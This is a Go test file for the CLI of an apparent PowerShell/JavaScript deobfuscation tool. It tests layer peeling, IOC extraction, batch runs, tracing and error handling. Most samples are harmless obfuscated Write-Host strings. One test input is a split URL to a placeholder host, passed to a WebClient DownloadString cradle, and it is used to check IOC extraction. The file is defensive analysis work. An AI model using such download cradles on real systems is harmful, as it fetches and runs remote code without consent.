package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestRunStdin(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("i`ex ('write-ho'+'st clitest')")
	if err := run([]string{"-stats"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "Write-Host clitest") {
		t.Errorf("stdout = %q", stdout.String())
	}
	if !strings.Contains(stderr.String(), "tokens=") {
		t.Errorf("stderr = %q", stderr.String())
	}
}

func TestRunFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "s.ps1")
	if err := os.WriteFile(path, []byte("IEX 'write-host fromfile'"), 0o644); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	if err := run([]string{path}, strings.NewReader(""), &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "Write-Host fromfile") {
		t.Errorf("stdout = %q", stdout.String())
	}
}

func TestRunIOCs(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("$u = 'http'+'://cli.test/x.ps1'\n(New-Object Net.WebClient).DownloadString($u)")
	if err := run([]string{"-iocs"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stderr.String(), "http://cli.test/x.ps1") {
		t.Errorf("IOCs missing: %q", stderr.String())
	}
}

func TestRunLayers(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("IEX 'IEX ''write-host deep'''")
	if err := run([]string{"-layers"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "----- layer 1 -----") {
		t.Errorf("layers missing: %q", stdout.String())
	}
}

// TestRunPartialOutputOnEnvelopeViolation asserts that when the
// envelope is violated mid-run the CLI still prints the best recovered
// layer to stdout (the operator guidance: "accept the partial layer")
// while exiting non-zero with the taxonomy name.
func TestRunPartialOutputOnEnvelopeViolation(t *testing.T) {
	var stdout, stderr bytes.Buffer
	// -max-output 1: the alias expansion grows the layer by ~10 bytes,
	// deterministically tripping ErrOutputBudget.
	err := run([]string{"-max-output", "1", "-stats"},
		strings.NewReader("gci ."), &stdout, &stderr)
	if err == nil {
		t.Fatal("want an envelope error")
	}
	if !strings.Contains(err.Error(), "ErrOutputBudget") {
		t.Errorf("error missing taxonomy name: %v", err)
	}
	if !strings.Contains(stdout.String(), "gci .") {
		t.Errorf("partial result not emitted: %q", stdout.String())
	}
	if !strings.Contains(stderr.String(), "run-interrupted=true") {
		t.Errorf("stats missing interruption flag: %q", stderr.String())
	}
}

func TestRunInvalidInput(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if err := run(nil, strings.NewReader("while ("), &stdout, &stderr); err == nil {
		t.Error("expected error")
	}
}

// TestRunFlagErrors pins the command-line errors: an unknown flag and
// the removed ablation flags fail at startup, before any input is read.
func TestRunFlagErrors(t *testing.T) {
	const unknownFlag = "flag provided but not defined"
	tests := []struct {
		name string
		args []string
	}{
		{"unknown flag", []string{"-no-such-flag"}},
		{"removed no-splice", []string{"-no-splice"}},
		{"removed piece-workers", []string{"-piece-workers", "2"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			err := run(tt.args, strings.NewReader("Write-Host 1"), &stdout, &stderr)
			if err == nil || !strings.Contains(err.Error(), unknownFlag) {
				t.Errorf("run(%q) = %v, want an error containing %q", tt.args, err, unknownFlag)
			}
			if stdout.Len() != 0 {
				t.Errorf("run(%q) wrote %q to stdout", tt.args, stdout.String())
			}
		})
	}
}

func TestRunBatchMissingFile(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if err := run([]string{"a.ps1", "b.ps1"}, strings.NewReader(""), &stdout, &stderr); err == nil {
		t.Error("expected error for nonexistent files")
	}
}

// TestRunBatchOrder asserts that multi-file runs print each result in
// argument order under a per-file header, regardless of worker count.
func TestRunBatchOrder(t *testing.T) {
	dir := t.TempDir()
	var paths []string
	for i, src := range []string{
		"IEX 'write-host alpha'",
		"IEX 'write-host beta'",
		"IEX 'write-host gamma'",
	} {
		p := filepath.Join(dir, string(rune('a'+i))+".ps1")
		if err := os.WriteFile(p, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p)
	}
	var stdout, stderr bytes.Buffer
	args := append([]string{"-jobs", "2"}, paths...)
	if err := run(args, strings.NewReader(""), &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	out := stdout.String()
	for _, want := range []string{"alpha", "beta", "gamma"} {
		if !strings.Contains(out, "Write-Host "+want) {
			t.Errorf("missing recovered script for %s: %q", want, out)
		}
	}
	// Headers appear in argument order.
	last := -1
	for _, p := range paths {
		i := strings.Index(out, "===== "+p+" =====")
		if i < 0 {
			t.Fatalf("missing header for %s: %q", p, out)
		}
		if i < last {
			t.Errorf("header for %s out of order", p)
		}
		last = i
	}
}

// TestRunBatchPartialFailure asserts that one invalid file fails its own
// slot (non-zero exit, per-file stderr line) without suppressing the
// sibling results.
func TestRunBatchPartialFailure(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "good.ps1")
	bad := filepath.Join(dir, "bad.ps1")
	if err := os.WriteFile(good, []byte("IEX 'write-host fine'"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bad, []byte("while ("), 0o644); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	err := run([]string{good, bad}, strings.NewReader(""), &stdout, &stderr)
	if err == nil {
		t.Fatal("want a batch failure error")
	}
	if !strings.Contains(err.Error(), "1 of 2") {
		t.Errorf("error = %v", err)
	}
	if !strings.Contains(stdout.String(), "Write-Host fine") {
		t.Errorf("sibling result suppressed: %q", stdout.String())
	}
	if !strings.Contains(stderr.String(), bad+":") {
		t.Errorf("per-file error missing: %q", stderr.String())
	}
}

// TestRunTrace asserts the -trace flag emits per-pass lines with self
// time and cache counters on stderr.
func TestRunTrace(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("IEX 'IEX ''write-host traced'''")
	if err := run([]string{"-trace"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "Write-Host traced") {
		t.Errorf("stdout = %q", stdout.String())
	}
	es := stderr.String()
	if !strings.Contains(es, "trace pass=") || !strings.Contains(es, "self=") || !strings.Contains(es, "cache=") {
		t.Errorf("trace lines missing: %q", es)
	}
	if !strings.Contains(es, "ast") {
		t.Errorf("trace missing ast pass: %q", es)
	}
}

func TestRunLangFlag(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("var s = 'cli' + 'test'; use(s);")
	if err := run([]string{"-lang", "javascript"}, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "'clitest'") {
		t.Errorf("stdout = %q", stdout.String())
	}
	// An unknown language fails with the taxonomy name.
	stdout.Reset()
	stderr.Reset()
	err := run([]string{"-lang", "cobol"}, strings.NewReader("x"), &stdout, &stderr)
	if err == nil || !strings.Contains(err.Error(), "ErrBadLang") {
		t.Errorf("err = %v, want ErrBadLang", err)
	}
}

func TestRunLangAutoDetect(t *testing.T) {
	var stdout, stderr bytes.Buffer
	in := strings.NewReader("var x = String.fromCharCode(104, 105); console.log(x.split(''))")
	if err := run(nil, in, &stdout, &stderr); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(stdout.String(), "'hi'") {
		t.Errorf("auto-detected JS not decoded: %q", stdout.String())
	}
}
